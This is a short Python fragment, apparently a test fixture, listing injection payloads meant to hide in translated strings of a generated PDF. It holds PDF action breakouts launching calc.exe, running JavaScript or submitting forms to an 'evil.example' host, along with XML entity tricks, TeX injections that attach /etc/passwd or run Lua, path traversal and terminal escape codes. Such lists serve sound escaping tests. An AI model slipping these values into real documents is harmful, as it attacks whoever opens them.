"""Translations that mean harm to whoever opens the PDF: each passes for words, and is in a title,
a paragraph, a link, an alternative text, an index entry and a note.
"""

PAYLOADS = (
    # The end of a string, a name or a dictionary of PDF (ISO 32000-2, 7.3).
    *(")", "(", "))", "\\)", "\\", "\\\\)", ">>", "<<", "<< >>", "]", "] >>", "endobj"),
    *("endstream", "%%EOF", "stream", "/Title", "<feff0041>", "/#4a#53", "(\\051)"),
    # Actions, as a viewer would take them.
    ") /A << /S /JavaScript /JS (app.alert(1)) >> (",
    ") >> /AA << /O << /S /Launch /F (calc.exe) >> >> (",
    "<< /S /URI /URI (https://evil.example/) >>",
    ") /URI (https://evil.example/a) /S /URI (",
    ") /S /SubmitForm /F (https://evil.example/b) (",
    ") /S /GoToR /F (https://evil.example/c.pdf) (",
    ") /OpenAction << /S /Named /N /Print >> (",
    ") /AF [<< /Type /Filespec /EF << >> >>] (",
    "javascript:app.alert(1)",
    "https://evil.example/d",
    # XML, in the metadata.
    *("</rdf:li>", "]]>", "<?xpacket end='w'?>", "&evil;", "<!DOCTYPE x>", "&#0;", "--><evil/>"),
    "</rdf:li></rdf:Alt></dc:title><pdfuaid:part>9</pdfuaid:part>",
    # TeX, and what hyperref and the bookmarks make of it.
    *("^^5cinput{x}", "^^M", "#1", "##", "~", "%", "}{", "{", "}", "}}\\relax{{", "$", "$$", "&"),
    *("\\href{https://evil.example/e}{x}", "\\special{pdf:code}", "\\pdfextension catalog{/x}"),
    *("\\directlua{os.exit()}", "\\textattachfile{/etc/passwd}{x}", "\\hypertarget{x}{y}"),
    *("\\texorpdfstring{x}{\\input{y}}", "\\csname end\\endcsname", "\\catcode`\\@=11"),
    *("\\label{x}", "\\index{x|href{https://evil.example/f}}", "x|(hyperpage", "x!y@z", '"!'),
    # Names and addresses.
    *("%2e%2e%2f", "file:///etc/passwd", "mailto:evil@evil.example", "//evil.example", "#page=9"),
    # What a terminal, a font or a line would have to take.
    *(
        "\u202e",
        "\u2066x",
        "\x1b[2J",
        "\x00",
        "\ufeff",
        "\u2028",
        "\U000e0041",
        "a\u0301" * 40,
    ),
)
